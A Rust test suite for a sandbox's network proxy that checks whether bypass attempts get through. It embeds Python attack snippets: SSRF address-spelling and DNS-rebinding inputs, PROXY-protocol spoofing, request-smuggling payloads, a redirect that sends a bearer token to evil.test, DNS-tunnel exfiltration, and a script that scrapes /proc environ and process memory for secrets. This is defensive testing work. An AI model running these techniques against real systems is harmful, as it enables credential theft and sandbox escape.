//! Network access through the proxy, and attempts to bypass it.
//!
//! Two defences apply to each request: the allow-list and the check of the address. Each is shown to hold
//! alone: the list, while another rule allows the address; the check, while the list allows the name. Without
//! both the attack gets through.

use std::collections::HashMap;
use std::io::{self, Read, Write};
use std::net::{IpAddr, TcpListener};
use std::process::Command;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use hotcell_egress::route::rules::RequestRules;
use hotcell_egress::route::{Route, Scheme};
use hotcell_egress::{Egress, Lookup, Resolver, Secret};
use hotcell_sandbox::network::{Proxy, Serving, SharedProxy, Sockets};
use hotcell_sandbox::outcome::Denial;
use hotcell_sandbox::{Layer, Network, Outcome, Policy, danger::WeakensTheSandbox};

use crate::decoys::SECRET;
use crate::engine;
use crate::run::THROUGH;
use crate::task::SECOND_ADDRESS;

use super::{Place, Said, check, good, io_error, run};

const PROGRAM: &str = include_str!("../../programs/through_proxy.py");
/// [`SECOND_ADDRESS`], the address of the servers.
pub(super) const ADDRESS: &str = "10.77.0.1";

/// The proxy behind a sandbox's sockets, as the service sets it up.
#[derive(Debug)]
pub(super) struct Way(Egress);

impl Way {
    pub(super) const fn new(egress: Egress) -> Self {
        Self(egress)
    }
}

struct Open(hotcell_egress::Serving);

impl Proxy for Way {
    fn serve(&self, sockets: Sockets) -> io::Result<Box<dyn Serving>> {
        let Sockets { proxy, names, names_by_stream, relays } = sockets;
        let serving = self.0.serve(hotcell_egress::Sockets { proxy, names, names_by_stream, relays })?;
        Ok(Box::new(Open(serving)))
    }
}

impl Serving for Open {
    fn finish(self: Box<Self>) -> Vec<Denial> {
        let rows = self.0.finish().into_iter();
        let row = |d: hotcell_egress::Denied| Denial {
            layer: "network".to_owned(),
            operation: d.operation.name().to_owned(),
            target: d.target,
            errno: String::new(),
            count: d.count,
        };
        rows.map(row).collect()
    }
}

/// A resolver with successive answers for each name, which records the names that it was asked for.
#[derive(Clone, Debug, Default)]
pub(super) struct Names {
    answers: Arc<Mutex<HashMap<String, Vec<Vec<IpAddr>>>>>,
    asked: Arc<Mutex<Vec<String>>>,
}

impl Names {
    fn lead(self, name: &str, answers: &[&str]) -> Self {
        let answers = answers.iter().map(|a| a.split(' ').filter_map(|a| a.parse().ok()).collect()).collect();
        self.answers.lock().unwrap_or_else(PoisonError::into_inner).insert(name.to_owned(), answers);
        self
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

impl Resolver for Names {
    fn resolve<'a>(&'a self, name: &'a str) -> Lookup<'a> {
        self.asked.lock().unwrap_or_else(PoisonError::into_inner).push(name.to_owned());
        let mut names = self.answers.lock().unwrap_or_else(PoisonError::into_inner);
        // Unknown names resolve to the attacker's server.
        let answer = match names.get_mut(name) {
            Some(answers) if answers.len() > 1 => answers.remove(0),
            Some(answers) => answers[0].clone(),
            None => ADDRESS.parse().into_iter().collect(),
        };
        Box::pin(async move { Ok(answer) })
    }
}

/// A web server outside the sandbox, and the data that it received.
struct Server {
    port: u16,
    heard: Arc<Mutex<String>>,
}

fn server(answer: impl Fn(&str) -> String + Send + 'static) -> Result<Server, String> {
    let listener = TcpListener::bind((SECOND_ADDRESS, 0)).map_err(io_error)?;
    let port = listener.local_addr().map_err(io_error)?.port();
    let heard = Arc::new(Mutex::new(String::new()));
    let log = Arc::clone(&heard);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
            let mut bytes = [0; 4096];
            // The first read returns a whole request, or a TLS ClientHello.
            let length = stream.read(&mut bytes).unwrap_or(0);
            let text = String::from_utf8_lossy(&bytes[..length]).into_owned();
            let _ = stream.write_all(answer(&text).as_bytes());
            log.lock().unwrap_or_else(PoisonError::into_inner).push_str(&text);
        }
    });
    Ok(Server { port, heard })
}

fn secret(_: &str) -> String {
    format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{SECRET}", SECRET.len())
}

pub(super) fn python(program: &str, arguments: &[&str]) -> Policy {
    Policy::new("/usr/bin/python3").args(["-c", program]).args(arguments.iter().copied())
}

fn way(rules: &str, names: &Names) -> Result<SharedProxy, String> {
    let list = rules.parse().map_err(|e| format!("{rules}: {e}"))?;
    Ok(SharedProxy::new(Way(Egress::new(list).resolver(names.clone()))))
}

/// Requests these hosts through the proxy; returns whether one was reached.
fn reached(rules: &str, names: &Names, port: u16, hosts: &[&str]) -> Result<(bool, Outcome), String> {
    let port = port.to_string();
    let arguments = [&[port.as_str()], hosts].concat();
    let (outcome, _) = run(&python(PROGRAM, &arguments).proxy(way(rules, names)?))?;
    match outcome.exit_code {
        Some(0) => Ok((false, outcome)),
        Some(THROUGH) => Ok((true, outcome)),
        code => Err(format!("{code:?}: {:?}", outcome.stderr)),
    }
}

/// Checks whether the attack gets through with each of the rule lists. `PORT` in rules is replaced by the
/// port.
fn expect(names: &Names, port: u16, hosts: &[&str], settings: &[(&str, bool)]) -> Result<(), String> {
    for (rules, through) in settings {
        let rules = rules.replace("PORT", &port.to_string());
        let (got, outcome) = reached(&rules, names, port, hosts)?;
        let said = || {
            let text = String::from_utf8_lossy(&outcome.stdout.to_bytes()).into_owned();
            format!("with {rules:?}: reached {got}: {text}")
        };
        check(got == *through, said)?;
        check(*through || !outcome.denials.is_empty(), || format!("with {rules:?}: no denial is told"))?;
    }
    Ok(())
}

pub(crate) fn spellings(_: &Place<'_>) -> Result<Said, String> {
    let server = server(secret)?;
    let names = Names::default()
        .lead("mapped.test.org", &["::ffff:10.77.0.1"])
        .lead("compatible.test.org", &["::10.77.0.1"])
        .lead("translated.test.org", &["64:ff9b::a4d:1 64:ff9b:1::a4d:1 2002:a4d:1::1"])
        .lead("zero.test.org", &["0.0.0.0 ::"]);
    let spelled = [
        "0x0a4d0001",
        "0xa.0x4d.0.1",
        "172818433",
        "012.0115.0.1",
        "10.77.1",
        "10.77.0.1.",
        "[::ffff:10.77.0.1]",
        "::ffff:a4d:1",
        "[64:ff9b::a4d:1]",
        "0.0.0.0",
        "127.0.0.1",
        "127.1",
        "[::1]",
        "[::]",
        "localhost",
    ];
    // The list alone: the address is allowed under another name.
    expect(&names, server.port, &spelled, &[("", false), ("other.test=10.77.0.1:PORT", false)])?;
    // The check alone.
    let led = ["mapped.test.org", "compatible.test.org", "translated.test.org", "zero.test.org"];
    expect(&names, server.port, &led, &[("*.test.org:PORT", false)])?;
    expect(&names, server.port, &["10.77.0.1"], &[("10.77.0.1:PORT", true)])?;
    good(format!("{} spellings and 4 answers in disguise", spelled.len()))
}

pub(crate) fn rebinding(_: &Place<'_>) -> Result<Said, String> {
    let server = server(secret)?;
    let names = Names::default()
        .lead("twice.test", &["192.0.2.1", ADDRESS])
        .lead("private.test", &[ADDRESS])
        .lead("metadata.test", &["169.254.169.254 fd00:ec2::254 100.100.100.200"])
        .lead("host.test", &["127.0.0.1 ::1"]);
    let hosts = ["twice.test", "private.test", "metadata.test", "host.test"];
    let all = "twice.test:PORT,private.test:PORT,metadata.test:PORT,host.test:PORT";
    expect(&names, server.port, &hosts, &[(all, false), ("other.test=10.77.0.1:PORT", false)])?;
    expect(&names, server.port, &["private.test"], &[("private.test=10.77.0.1:PORT", true)])?;
    good("a name that leads elsewhere is not followed; the list and the check hold it alone")
}

pub(crate) fn suffixes(_: &Place<'_>) -> Result<Said, String> {
    let server = server(secret)?;
    let names = Names::default();
    let hosts = [
        "good.test.org.evil",
        "evilgood.test.org",
        "evil.good.test.org",
        "eviltest.net",
        "x.test.net.evil",
        "test.net",
        "good.test.org\\x00.evil",
        "evil\\x00.good.test.org",
        "good.test.org@evil",
        "evil@good.test.org",
        "good%2etest.org",
        "good.test.org#",
        "good.test.org\\\\.evil",
    ];
    let list = "good.test.org=10.77.0.1:PORT,*.test.net:PORT";
    expect(&names, server.port, &hosts, &[(list, false)])?;
    check(names.asked().is_empty(), || format!("these were looked up: {:?}", names.asked()))?;
    expect(&names, server.port, &["GOOD.Test.org."], &[(list, true)])?;
    // The check alone: every one of these names resolves to a private address.
    expect(
        &names,
        server.port,
        &["evilgood.test.org", "eviltest.net"],
        &[("evilgood.test.org:PORT,eviltest.net:PORT", false)],
    )?;
    good(format!("{} names that look like an allowed one", hosts.len()))
}

pub(crate) fn empty_list(_: &Place<'_>) -> Result<Said, String> {
    let server = server(secret)?;
    expect(&Names::default(), server.port, &["10.77.0.1", "good.test", "direct:10.77.0.1"], &[("", false)])?;
    expect(&Names::default(), server.port, &["10.77.0.1"], &[("10.77.0.1:PORT", true)])?;
    good("nothing is reached")
}

pub(crate) fn relay(_: &Place<'_>) -> Result<Said, String> {
    let server = server(secret)?;
    let list = [("good.test=10.77.0.1:PORT", false)];
    let names = Names::default();
    expect(&names, server.port, &["tls:good.test:evil.test", "tls:good.test:good.test.evil"], &list)?;
    check(server.heard.lock().is_ok_and(|h| h.is_empty()), || "the server was sent something".to_owned())?;
    expect(&names, server.port, &["tls:good.test:good.test"], &[("good.test=10.77.0.1:PORT", true)])?;
    good("TLS with another server than the connection's gets no byte out")
}

/// A server that takes a header of the PROXY protocol believes whom it names as the client: what begins with one goes no further.
pub(crate) fn another_client(_: &Place<'_>) -> Result<Said, String> {
    const SAY: &str = r"
import socket, sys
host, port, through, first = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4].encode().decode('unicode_escape').encode('latin-1')
try:
    if through == 'proxy':
        to = socket.create_connection(('127.0.0.1', 888), 10)
        to.sendall(b'CONNECT %s:%d HTTP/1.1\r\nHost: %s\r\n\r\n' % (host.encode(), port, host.encode()))
        assert b' 200' in to.recv(4096)
    else:
        to = socket.create_connection((host, port), 10)
    for piece in ((first[:3], first[3:]) if through == 'proxy' else (first,)):
        to.sendall(piece)
    to.shutdown(socket.SHUT_WR)
    answer = b''
    while piece := to.recv(4096):
        answer += piece
except OSError:
    sys.exit(0)
sys.exit(77 if b'HOTCELL-SECRET' in answer else 3 if b'403' in answer else 0)
";
    // It shows its own page only to a client at this address.
    let server = server(|text| {
        let is_theirs = text.starts_with("PROXY TCP4 10.9.9.9 ") || text.starts_with("\r\n\r\n\0\r\nQUIT\n");
        if is_theirs { secret("") } else { "HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n".to_owned() }
    })?;
    let port = server.port.to_string();
    let request = r"GET / HTTP/1.1\r\nHost: good.test:PORT\r\n\r\n".replace("PORT", &port);
    let headers = [
        r"PROXY TCP4 10.9.9.9 10.77.0.1 1 2\r\n",
        r"\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c\x0a\x09\x09\x09\x0a\x4d\x00\x01\x00\x01\x00\x02",
    ];
    let ask = |first: &str| -> Result<Outcome, String> {
        let rules = format!("good.test=10.77.0.1:{port}");
        Ok(run(&python(SAY, &["good.test", &port, "proxy", first]).proxy(way(&rules, &Names::default())?))?.0)
    };
    for header in headers {
        let first = format!("{header}{request}");
        // It is an attack: the server believes it.
        let bare =
            Command::new("/usr/bin/python3").args(["-c", SAY, ADDRESS, &port, "direct", &first]).status();
        let code = bare.map_err(io_error)?.code();
        check(code == Some(THROUGH), || format!("bare, it does not get through: {code:?}"))?;
        let outcome = ask(&first)?;
        check(outcome.exit_code == Some(0), || {
            format!("{header}: {:?} {:?}", outcome.exit_code, outcome.stderr)
        })?;
        let is_told = outcome.denials.iter().any(|d| d.target.contains("PROXY"));
        check(is_told, || format!("no denial is told: {:?}", outcome.denials))?;
    }
    // Without such a header, the request is answered.
    let outcome = ask(&request)?;
    check(outcome.exit_code == Some(3), || {
        format!("an ordinary request: {:?} {:?}", outcome.exit_code, outcome.stderr)
    })?;
    good(format!("{} headers that name another client go no further", headers.len()))
}

pub(crate) fn redirect(_: &Place<'_>) -> Result<Said, String> {
    const FOLLOW: &str = "import sys,urllib.request,urllib.error\n\
        r=urllib.request.Request(sys.argv[1],headers={'Authorization':'Bearer KEY','Proxy-Authorization':'KEY2'})\n\
        try: print(urllib.request.urlopen(r,timeout=10).read())\n\
        except urllib.error.HTTPError as e: print(e.code)";
    let evil = server(secret)?;
    let to = format!("http://evil.test:{}/", evil.port);
    let good_server = server(move |_| {
        format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nConnection: close\r\nContent-Length: 0\r\n\r\n")
    })?;
    let url = format!("http://good.test:{}/", good_server.port);
    for (more, through) in [(String::new(), false), (format!(",evil.test=10.77.0.1:{}", evil.port), true)] {
        let rules = format!("good.test=10.77.0.1:{}{more}", good_server.port);
        let (outcome, _) = run(&python(FOLLOW, &[&url]).proxy(way(&rules, &Names::default())?))?;
        let heard = evil.heard.lock().map(|h| h.clone()).unwrap_or_default();
        // Shows that this is an attack: the client sends its key along.
        check(heard.contains("Bearer KEY") == through, || {
            format!("{through}: {heard:?} {:?}", outcome.stdout)
        })?;
        check(!heard.contains("KEY2"), || format!("the proxy's own credential was sent on: {heard}"))?;
    }
    good("a redirect to a host that is not allowed carries nothing there")
}

/// A secret that the proxy puts in is looked for wherever a program can read, in what the proxy answers to requests that try to get it,
/// and at a host that does not prove its name.
pub(crate) fn secret_of_a_route(_: &Place<'_>) -> Result<Said, String> {
    // The value is given in two parts and compared in parts, so that looking for it does not make it.
    const HUNT: &str = r"
import glob, os, re, socket, sys
first, second = sys.argv[1].encode(), sys.argv[2].encode()
def holds(data):
    at = data.find(first)
    while at >= 0:
        if data[at + len(first):at + len(first) + len(second)] == second: return True
        at = data.find(first, at + 1)
    return False
found = []
def look(where, data):
    if holds(data): found.append(where)
def ask(text):
    try:
        with socket.create_connection(('127.0.0.1', 888), 10) as s:
            s.sendall(text.replace('HOST', '127.0.0.1:888').encode('latin-1')); s.shutdown(socket.SHUT_WR)
            while piece := s.recv(65536): look('the answer to ' + text[:40], piece)
    except OSError: pass
for text in (
    'GET /gh/ HTTP/1.1\r\nHost: HOST\r\n\r\n', 'TRACE /gh/ HTTP/1.1\r\nHost: HOST\r\n\r\n',
    'GET /gh/ HTTP/1.1\r\nHost: evil.test\r\n\r\n', 'GET http://HOST/gh/ HTTP/1.1\r\nHost: HOST\r\n\r\n',
    'GET /gh/ HTTP/1.1\r\nHost: HOST\r\nHost: evil.test\r\n\r\n', 'CONNECT 127.0.0.1:888 HTTP/1.1\r\n\r\nGET /gh/ HTTP/1.1\r\n\r\n',
    'POST /gh/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    'POST /gh/ HTTP/1.1\r\nHost: HOST\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab', '\x05\x01\x00',
): ask(text)
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/net/*'):
    if os.path.realpath(path).startswith('/dev/'): continue
    try:
        with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 'rb') as file: look(path, file.read(1 << 20) or b'')
    except OSError: pass
for maps in glob.glob('/proc/[0-9]*/maps'):
    try:
        with open(maps) as lines, open(maps[:-4] + 'mem', 'rb') as memory:
            for line in lines:
                start, end, access = re.match(r'(\w+)-(\w+) (\S+)', line).groups()
                if access.startswith('rw'):
                    try: memory.seek(int(start, 16)); look(maps, memory.read(int(end, 16) - int(start, 16)))
                    except (OSError, OverflowError, ValueError): pass
    except OSError: pass
print(found)
sys.exit(77 if found else 0)
";
    let server = server(secret)?;
    let names = Names::default();
    let (first, second) = SECRET.split_at(SECRET.len() / 2);
    let hunt = |policy: Policy| -> Result<(Option<i32>, String), String> {
        let (outcome, _) = run(&policy)?;
        Ok((outcome.exit_code, String::from_utf8_lossy(&outcome.stdout.to_bytes()).into_owned()))
    };
    let made = || -> Result<SharedProxy, String> {
        let value = Secret::new(SECRET.as_bytes().to_vec()).map_err(|e| e.to_string())?;
        let binding = format!("good.test:{}", server.port).parse();
        let binding = binding.map_err(|e: hotcell_egress::route::RouteError| e.to_string())?;
        let route = Route::new("gh", binding, &Scheme::Bearer, &value, RequestRules::default(), None);
        let list = format!("good.test=10.77.0.1:{}", server.port).parse();
        let list = list.map_err(|e: hotcell_egress::RuleError| e.to_string())?;
        let egress = Egress::new(list).resolver(names.clone()).routes([route.map_err(|e| e.to_string())?]);
        Ok(SharedProxy::new(Way(egress)))
    };
    let (code, said) = hunt(python(HUNT, &[first, second]).proxy(made()?))?;
    check(code == Some(0), || format!("it was found: {code:?} {said}"))?;
    let heard = server.heard.lock().map(|heard| heard.clone()).unwrap_or_default();
    check(!heard.contains(SECRET) && !heard.contains("Bearer"), || {
        format!("a host without a certificate was sent it: {heard}")
    })?;
    // Shows that the program finds what is there: as a variable, the value is in three places.
    let (code, said) = hunt(python(HUNT, &[first, second]).env("TOKEN", SECRET).proxy(made()?))?;
    check(code == Some(THROUGH) && said.contains("environ") && said.contains("maps"), || {
        format!("a variable is not found: {code:?} {said}")
    })?;
    good("nowhere in processes, memory and answers, and not sent to a host without its certificate")
}

pub(crate) fn names(_: &Place<'_>) -> Result<Said, String> {
    const TUNNEL: &str = r"
import socket, sys
def ask(labels, kind, stream):
    question = b'\1\2\1\0\0\1\0\0\0\0\0\0' + b''.join(bytes([len(l)]) + l for l in labels) + b'\0\0' + bytes([kind, 0, 1])
    try:
        if stream:
            with socket.create_connection(('127.0.0.1', 53), 5) as s:
                s.sendall(len(question).to_bytes(2, 'big') + question)
                return s.recv(600)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(question, ('127.0.0.1', 53))
        return s.recv(600)
    except OSError:
        return b''
zone = [l.encode() for l in sys.argv[1].split('.')]
for stream in (False, True):
    for labels in ([b'secret'], [b's' * 60, b't' * 60], [b'secret.evil'], [b'secret\0']):
        for kind in (1, 28, 16, 255, 15, 10):
            ask(labels + zone, kind, stream)
";
    let list = "good.test.org:443,*.data.test.org:443";
    let asked = |zone: &str| -> Result<(Vec<String>, Outcome), String> {
        let names = Names::default();
        let (outcome, _) = run(&python(TUNNEL, &[zone]).proxy(way(list, &names)?))?;
        check(outcome.success(), || format!("{:?}", outcome.stderr))?;
        Ok((names.asked(), outcome))
    };
    let (told, outcome) = asked("evil.test.org")?;
    check(told.is_empty(), || format!("the world was asked for {told:?}"))?;
    check(outcome.denials.iter().any(|d| d.operation == "dns"), || "no denial is told".to_owned())?;
    // Below an allowed suffix only addresses of one short label can be requested. A suffix permits this much.
    let (told, _) = asked("data.test.org")?;
    check(told.iter().all(|name| name == "secret.data.test.org") && !told.is_empty(), || {
        format!("the world was asked for {told:?}")
    })?;
    good("names of other zones, other types and long labels are asked of nobody")
}

pub(crate) fn nobody_serves(_: &Place<'_>) -> Result<Said, String> {
    let server = server(secret)?;
    let port = server.port.to_string();
    let mut policy = python(PROGRAM, &[&port, "10.77.0.1", "good.test", "direct:10.77.0.1"]);
    policy.shape.network = Network::Proxy;
    let (outcome, _) = run(&policy)?;
    check(outcome.success(), || format!("{:?} {:?}", outcome.exit_code, outcome.stdout))?;
    expect(&Names::default(), server.port, &["10.77.0.1"], &[("10.77.0.1:PORT", true)])?;
    good("without a proxy nothing is reached")
}

pub(crate) fn one_list_a_run(_: &Place<'_>) -> Result<Said, String> {
    let server = server(secret)?;
    let port = server.port.to_string();
    let names = Names::default();
    let narrow = way("other.test:1", &names)?;
    let wide = way(&format!("10.77.0.1:{port}"), &names)?;
    let ask = |proxy: &SharedProxy| python(PROGRAM, &[&port, "10.77.0.1"]).proxy(proxy.clone());
    // In sequence and concurrently in one engine: no run gets the list of another.
    let (first, second) = (ask(&narrow), ask(&wide));
    let both =
        engine::block_on(async { tokio::join!(hotcell_sandbox::run(&first), hotcell_sandbox::run(&second)) });
    let (one, two) = both.map_err(io_error)?;
    let codes = (one.exit_code, two.exit_code, run(&first)?.0.exit_code);
    check(codes == (Some(0), Some(THROUGH), Some(0)), || format!("{codes:?}"))?;
    good("a run keeps the list with which it began")
}

pub(crate) fn around_the_proxy(_: &Place<'_>) -> Result<Said, String> {
    let server = server(secret)?;
    let (port, names) = (server.port.to_string(), Names::default());
    let hosts = ["direct:10.77.0.1", "direct:good.test"];
    let rules = format!("good.test=10.77.0.1:{port},10.77.0.1:{port}");
    let (got, outcome) = reached(&rules, &names, server.port, &hosts)?;
    check(!got, || "it was reached without the proxy".to_owned())?;
    let row =
        outcome.denials.iter().find(|d| d.operation == "connect" && d.target == format!("{ADDRESS}:{port}"));
    check(row.is_some(), || format!("no denial is told: {:?}", outcome.denials))?;
    // A sandbox with a proxy cannot run without the network namespace.
    let without = python(PROGRAM, &[&port, hosts[0]])
        .proxy(way(&rules, &names)?)
        .without_layer(Layer::NetNs, WeakensTheSandbox);
    let refused = engine::outcome(&without).map_err(io_error)?;
    check(refused.cause == hotcell_sandbox::Cause::Refused, || format!("{:?}", refused.cause))?;
    // Shows that this is an attack: a program with the host's network gets through.
    let bare =
        Command::new("/usr/bin/python3").args(["-c", PROGRAM, &port, hosts[0]]).status().map_err(io_error)?;
    check(bare.code() == Some(THROUGH), || "bare, it does not get through".to_owned())?;
    good("a client that knows of no proxy reaches nothing, and that is told")
}
